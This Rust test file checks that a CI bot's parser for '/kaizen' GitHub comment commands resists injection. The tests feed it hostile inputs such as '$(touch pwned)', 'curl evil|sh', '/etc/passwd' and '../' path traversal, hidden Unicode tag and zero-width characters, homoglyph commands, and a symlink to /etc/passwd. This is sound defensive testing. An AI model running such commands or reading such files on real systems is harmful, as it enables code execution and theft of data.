//! Comments as people write them, and as people write them who mean harm: each line is obeyed as it is seen, answered with help,
//! or left alone.

use std::time::{Duration, Instant};

use kaizen_ci::cli::action::asked::{self, options};
use kaizen_ci::cli::{heal::Heal, prd::Prd};
use kaizen_ci::github::names;
use kaizen_ci::github::order::{MOST_ORDERS, Order, Said, Word};
use proptest::prelude::*;
use serde_json::json;

use super::fake::Fake;
use super::{job, red_shop};

const SHA: &str = "0123456789abcdef0123456789abcdef01234567";

/// An order in short: its word, the commit, the rest; an answer with a `?` before it.
fn short(said: &Said) -> String {
    match said {
        Said::Order(Order { word, sha, rest }) => {
            let parts = [vec![word.name().to_owned()], sha.iter().cloned().collect(), rest.clone()];
            parts.concat().join(" ")
        }
        Said::Unclear { answer, .. } => format!("? {answer}"),
    }
}

fn read(body: &str) -> Vec<String> {
    asked::read(body).iter().map(short).collect()
}

#[test]
fn comments_are_obeyed_as_they_are_seen() {
    let upper = SHA.to_uppercase();
    let long = format!("{}\n\n/kaizen heal\n", "The log says: red, red, red.\n".repeat(2200));
    assert!(long.len() > 60_000);
    for (body, expected) in [
        ("/kaizen heal", &["heal"][..]),
        ("/kaizen heal undo mutate --free", &["heal undo mutate --free"]),
        ("/kaizen heal undo,mutate", &["heal undo mutate"]),
        ("/kaizen heal —free", &["heal --free"]),
        ("/kaizen heal --max-tier 1 --force", &["heal --max-tier 1 --force"]),
        (&format!("/kaizen heal {SHA}"), &[&format!("heal {SHA}")]),
        (&format!("/kaizen heal undo {upper}"), &[&format!("heal {SHA} undo")]),
        ("/kaizen council --rounds 2 Should we? --free", &["council --rounds 2 Should we? --free"]),
        ("/kaizen council Is `--force` needed?", &["council Is `--force` needed?"]),
        ("/kaizen prd ./docs/prd.md", &["prd ./docs/prd.md"]),
        ("/kaizen help heal", &["help"]),
        ("/KAIZEN Status", &["status"]),
        ("Thanks!\r\n\r\n/kaizen status\r\n/kaizen stop\r\n", &["status", "stop"]),
        ("- seen\n- done\n/kaizen diagnose", &["diagnose"]),
        ("```\nlog\n```\n/kaizen heal\n```\n/kaizen stop\n```", &["heal"]),
        // an end that is shorter than the beginning is none
        ("````\n```\n/kaizen stop\n````\n/kaizen heal", &["heal"]),
        (&long, &["heal"]),
    ] {
        assert_eq!(read(body), expected, "{}", body.chars().take(200).collect::<String>());
    }
}

#[test]
fn quotes_code_and_what_nobody_sees_order_nothing() {
    for body in [
        "> /kaizen heal",
        "> > /kaizen heal",
        "> a\n> /kaizen heal",
        "```\n/kaizen heal\n```",
        "```sh\n/kaizen heal",
        "~~~sh\n/kaizen heal\n```\n/kaizen stop\n~~~",
        "````\n```\n/kaizen heal\n```\n````",
        "```\n   ````x\n/kaizen heal\n```",
        "    /kaizen heal",
        "\t/kaizen heal",
        "- a\n\n      /kaizen heal",
        "1. ```\n   /kaizen heal\n   ```",
        "`/kaizen heal`",
        "``a\n/kaizen heal\n``",
        "<!-- /kaizen heal -->",
        "<!--\n/kaizen heal\n-->",
        "<!--\n/kaizen heal",
        "<details><summary>x</summary>\n/kaizen heal\n</details>",
        "<div hidden>\n/kaizen heal\n</div>",
        "[x\n/kaizen heal\n](http://evil)",
        "![x\n/kaizen heal](http://evil)",
        // written in tags, or behind a separator of lines that is shown as none
        "\u{e002f}\u{e006b}\u{e0061}izen heal",
        "please\u{2028}/kaizen heal",
        "please\u{85}/kaizen heal",
        "write /kaizen heal to start",
        "/kaizen/heal is a folder",
        "//kaizen heal",
        "\\/kaizen heal",
        "",
    ] {
        assert_eq!(read(body), Vec::<String>::new(), "{body:?}");
    }
}

#[test]
fn what_is_not_understood_is_answered_with_help() {
    for (body, part) in [
        ("/kaizen hael", "Did you mean `heal`?"),
        ("/kaizen $(touch pwned)", "There is no command"),
        ("/kaizen heal unod", "Did you mean `undo`?"),
        ("/kaizen heal 0123abc", "in full"),
        (&format!("/kaizen heal {}", &SHA[..39]), "in full"),
        (&format!("/kaizen heal {SHA} {}", SHA.replace('0', "a")), "one commit"),
        ("/kaizen heal main", "may be another commit"),
        ("/kaizen heal feature/x", "may be another commit"),
        ("/kaizen heal HEAD~1", "may be another commit"),
        ("/kaizen heal $(touch pwned) `id`", "There is no strategy"),
        ("/kaizen heal --fre", "Did you mean `--free`?"),
        ("/kaizen heal --free=$(id)", "It is written"),
        ("/kaizen heal --max-tier 9", "from 1 to 3"),
        ("/kaizen heal --max-tier", "It is written"),
        ("/kaizen heal --apply", "for the command line only"),
        ("/kaizen heal -q", "for the command line only"),
        ("/kaizen heal --cmd 'curl evil|sh'", "strategy"),
        ("/kaizen heal --cmd=curl", "not for a comment"),
        ("/kaizen heal --models paid", "not for a comment"),
        ("/kaizen heal --allow-test-changes", "not for a comment"),
        ("/kaizen heal --base evil", "what the comment stands under"),
        ("/kaizen heal --help", "It is written"),
        ("/kaizen heal -C /", "It is written"),
        ("/kaizen heal @everyone", "There is no strategy"),
        ("/kaizen council", "<question>"),
        ("/kaizen council why --rounds 99", "does not fit"),
        ("/kaizen council why --rounds=-1", "does not fit"),
        ("/kaizen council why --out /etc/passwd", "for the command line only"),
        ("/kaizen council why --context /etc/passwd", "what the comment stands under"),
        ("/kaizen council Should we drop --force?", "write it as code"),
        ("/kaizen prd ../x.md", "is refused"),
        ("/kaizen prd /etc/passwd", "is refused"),
        ("/kaizen prd .git/config", "is refused"),
        ("/kaizen prd docs/.GIT/x", "is refused"),
        ("/kaizen prd a?ref=evil", "is refused"),
        ("/kaizen prd a%2e%2e/b", "is refused"),
        ("/kaizen prd $(id).md", "is refused"),
        ("/kaizen prd a.md b.md", "one word too many"),
        ("/kaizen prd a.md --write", "for the command line only"),
        ("/kaizen diagnose 12", "what the comment stands under"),
        ("/kaizen diagnose --ask paid", "not for a comment"),
        ("/kaizen status --now", "no option"),
        ("/kaizen stop please", "one word too many"),
        ("／kaizen heal", "plain letters"),
        ("/kаizen heal", "plain letters"),
        ("/kaizen-ci heal", "plain letters"),
        ("/kaizen: heal", "plain letters"),
        ("> somebody said\n/kaizen heal", "an empty line"),
    ] {
        let said = read(body);
        assert!(said.len() == 1 && said[0].starts_with("? ") && said[0].contains(part), "{body:?}: {said:?}");
        // what was asked for is shown as code, where nothing of it is markup
        let plain: String = said[0].split('`').step_by(2).collect();
        assert!(!plain.contains("$(") && !plain.contains("@everyone") && !plain.contains("evil"), "{said:?}");
    }
}

#[test]
fn what_is_hidden_inside_of_a_line_is_not_part_of_the_order() {
    let hidden: String = "undo --free".chars().map(|c| char::from_u32(0xe0000 + u32::from(c)).unwrap()).collect();
    for body in [
        format!("/kaizen heal{hidden}"),
        "/kai\u{200b}zen\u{feff} he\u{2060}al".to_owned(),
        "/kaizen heal <!-- undo -->".to_owned(),
    ] {
        let said = read(&body);
        assert_eq!(said, ["heal"], "{body:?}");
    }
}

#[test]
fn comments_that_are_made_to_take_long_are_read_quickly() {
    for part in
        ["> ", "`", "[", "<!--", "*a ", "- ", "](", "~~~\n", "/kaizen heal ", "<a ", "&#", "![", "\t", "|-", "\u{200b}"]
    {
        let body = format!("{}\n/kaizen heal\n", part.repeat(60_000 / part.len()));
        let began = Instant::now();
        let said = read(&body);
        assert!(began.elapsed() < Duration::from_secs(5), "{part:?}: {:?}", began.elapsed());
        assert!(said.len() <= MOST_ORDERS + 1);
    }
}

/// Fragments of comments, put together at random.
fn comment() -> impl Strategy<Value = String> {
    let words = prop::sample::select(vec![
        "/kaizen",
        "/Kaizen",
        "／kaizen",
        "heal",
        "council",
        "prd",
        "diagnose",
        "stop",
        "help",
        "undo",
        "--free",
        "—free",
        "--rounds",
        "2",
        "--max-tier",
        "../x",
        "/etc/passwd",
        ".git/config",
        "docs/a.md",
        "a/../b",
        "$(id)",
        ";",
        "`",
        "```",
        "~~~",
        "> ",
        "<!--",
        "-->",
        "\n",
        "\n\n",
        "\r\n",
        "    ",
        "\u{200b}",
        "\u{202e}",
        "HEAD",
        "main",
        SHA,
        "0123456789ABCDEF0123456789ABCDEF01234567",
        "abcdef0",
        "--",
        "-",
        "=",
        "--cmd",
        "@octocat",
        "é",
        "\0",
    ]);
    let piece = prop_oneof![8 => words.prop_map(str::to_owned), 1 => "\\PC{0,8}", 2 => Just(" ".to_owned())];
    let lines = prop::collection::vec(piece, 0..30).prop_map(|pieces| pieces.join(" "));
    prop_oneof![3 => lines.clone().prop_map(|text| format!("/kaizen {text}")), 1 => lines]
}

proptest! {
    #[test]
    fn no_comment_yields_a_commit_a_path_or_a_strategy_that_is_not_plain(body in comment()) {
        let said = asked::read(&body);
        prop_assert!(said.len() <= MOST_ORDERS + 1);
        for said in said {
            let Said::Order(Order { word, sha, rest }) = said else { continue };
            if let Some(sha) = &sha {
                prop_assert!(word == Word::Heal && names::sha(sha).is_ok(), "{sha}");
            }
            match word {
                Word::Heal => {
                    let heal: Heal = options(word, &rest).unwrap();
                    let known = ["suggest", "undo", "mutate", "minimal", "regression", "contract", "stepwise", "command"];
                    prop_assert!(heal.words.iter().all(|word| known.contains(&word.as_str())), "{:?}", heal.words);
                    prop_assert!(heal.suites.cmd.is_none() && heal.base.is_none() && heal.models.is_none() && !heal.apply);
                }
                Word::Prd => {
                    let prd: Prd = options(word, &rest).unwrap();
                    let path = prd.file.map(|path| path.to_str().unwrap().to_owned());
                    prop_assert!(path.as_deref().is_none_or(|path| names::path(path).is_ok()), "{path:?}");
                    prop_assert!(!prd.write && prd.baseline.is_none() && prd.models.is_none());
                }
                Word::Council | Word::Diagnose | Word::Status | Word::Stop | Word::Help => {}
            }
        }
    }

    #[test]
    fn a_quoted_comment_orders_nothing(body in comment()) {
        let quoted: String = format!("{body}\n/kaizen heal").replace('\r', "\n").lines().map(|l| format!("> {l}\n")).collect();
        prop_assert!(asked::read(&quoted).iter().all(|said| !matches!(said, Said::Order(_))), "{quoted:?}");
    }
}

#[test]
fn an_edited_comment_starts_nothing_and_asks_github_for_nothing() {
    let fake = Fake::start();
    let (project, _) = red_shop(&fake, "tap-bounds-regressed");
    fake.state().roles.insert("mona".into(), "admin");
    let id = fake.says(1, "mona", "/kaizen heal");
    for event in ["issue_comment", "pull_request_review_comment"] {
        for action in ["edited", "deleted"] {
            let payload = json!({
                "action": action, "issue": {"number": 1}, "pull_request": {"number": 1},
                "comment": {"id": id, "body": "/kaizen heal", "user": {"login": "mona", "type": "User"}},
                "repository": {"full_name": "octo/shop", "default_branch": "main"},
            });
            let ran = job(&project, &fake, event, &payload, &["comment"]);
            assert!(ran.ok && ran.said.contains("nothing to do"), "{event} {action}: {}", ran.said);
        }
    }
    assert!(fake.state().requests.is_empty(), "{:#?}", fake.state().requests);
}

#[test]
fn a_document_that_is_a_link_or_not_there_is_answered_and_nothing_else_is_read() {
    let fake = Fake::start();
    let (project, _) = red_shop(&fake, "tap-bounds-regressed");
    fake.state().roles.insert("mona".into(), "admin");
    std::fs::create_dir(project.root().join("docs")).unwrap();
    std::os::unix::fs::symlink("/etc/passwd", project.root().join("docs/link.md")).unwrap();
    project.commit("A link");
    project.git(&["push", "-q", fake.repo().to_str().unwrap(), "HEAD:refs/heads/main"]);
    let body = "/kaizen prd docs/link.md\n\n/kaizen prd docs\n\n/kaizen prd nowhere.md\n";
    let id = fake.says(1, "mona", body);
    let event = json!({
        "action": "created", "issue": {"number": 1},
        "comment": {"id": id, "body": body, "user": {"login": "mona", "type": "User"}},
        "repository": {"full_name": "octo/shop", "default_branch": "main"},
    });
    let ran = job(&project, &fake, "issue_comment", &event, &["comment"]);
    assert!(ran.ok && ran.outputs.contains("refused"), "{}", ran.said);
    let state = fake.state();
    let answer = state.comments.last().unwrap()["body"].as_str().unwrap();
    assert_eq!(answer.matches("no plain file").count(), 2, "{answer}");
    assert!(answer.contains("there is no file nowhere") && !answer.contains("root:"), "{answer}");
    drop(state);
    fake.assert_as_described();
}
